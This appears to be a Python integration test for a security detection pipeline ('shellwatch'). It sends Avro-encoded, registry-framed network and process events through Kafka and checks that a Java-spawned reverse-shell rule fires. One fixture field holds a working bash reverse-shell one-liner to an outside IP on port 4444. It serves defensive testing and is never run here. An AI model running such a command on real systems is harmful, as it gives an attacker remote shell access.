"""Registry-framed Avro input on the real broker, with a real schema registry (Apicurio, Confluent API)."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from confluent_kafka import Producer

from shellwatch.core.pipeline import Pipeline, PipelineConfig
from shellwatch.formats.avro import encode_single_object
from shellwatch.kafka.schema_registry import RegistryClient
from shellwatch.local.registry import register_schema
from tests.integration.deployment import LIVE, Deployment
from tests.shared import RULE, SHELL_RULE

SCHEMAS = Path(__file__).parents[2] / "schemas"


def framed(schema_id: int, schema: dict[str, Any], record: dict[str, Any]) -> bytes:
    return b"\x00" + schema_id.to_bytes(4, "big") + encode_single_object(schema, record)[10:]


def test_registry_framed_attack_alerts(schema_registry_url: str, kafka_bootstrap: str, tmp_path: Path) -> None:
    texts = {kind: (SCHEMAS / f"{kind}_event.avsc").read_text() for kind in ("network", "process")}
    ids = {kind: register_schema(schema_registry_url, f"sw-{kind}-value", text) for kind, text in texts.items()}
    schemas = {kind: json.loads(text) for kind, text in texts.items()}
    connection = {
        "timestamp": LIVE,
        "event": {"id": "reg-conn", "category": ["network"], "action": "connection_attempted"},
        "host": {"id": "reg-host", "os": {"type": "linux"}},
        "process": {"entity_id": "reg-java", "executable": "/usr/bin/java", "name": "java"},
        "destination": {"ip": "185.220.101.4", "port": 4444},
    }
    shell = {
        "timestamp": LIVE + 800,
        "event": {"id": "reg-shell", "category": ["process"], "action": "exec"},
        "host": {"id": "reg-host", "os": {"type": "linux"}},
        "process": {
            "entity_id": "reg-bash",
            "name": "bash",
            "executable": "/bin/bash",
            "args": ["/bin/bash", "-c", "bash -i >& /dev/tcp/185.220.101.4/4444 0>&1"],
            "parent": {"entity_id": "reg-java", "executable": "/usr/bin/java", "args": ["java", "-jar", "x.jar"]},
        },
    }
    records = {
        "network": framed(ids["network"], schemas["network"], connection),
        "process": framed(ids["process"], schemas["process"], shell),
    }
    offline = Pipeline(RULE, PipelineConfig(), SHELL_RULE, RegistryClient(schema_registry_url))
    expected = [a for raw in records.values() for a in offline.process(raw, 0).alerts] + offline.flush(0)
    assert len(expected) == 2

    deployment = Deployment(kafka_bootstrap, tmp_path)
    deployment.extra_env["SHELLWATCH_SCHEMA_REGISTRY_URL"] = schema_registry_url
    deployment.start_worker()
    try:
        producer = Producer({"bootstrap.servers": kafka_bootstrap, "partitioner": "murmur2_random"})
        producer.produce(deployment.network, key=b"reg-host", value=records["network"])
        producer.produce(deployment.process, key=b"reg-host", value=records["process"])
        assert producer.flush(10) == 0
        alerts = deployment.alerts_for(2)
    finally:
        deployment.stop()
    assert {a["event"]["id"] for a in alerts} == {a["event"]["id"] for a in expected}
    sequence = next(a for a in alerts if a["rule"]["id"] == "potential-reverse-shell-via-java")
    assert [e["event"]["id"] for e in sequence["detection"]["events"]] == ["reg-conn", "reg-shell"]
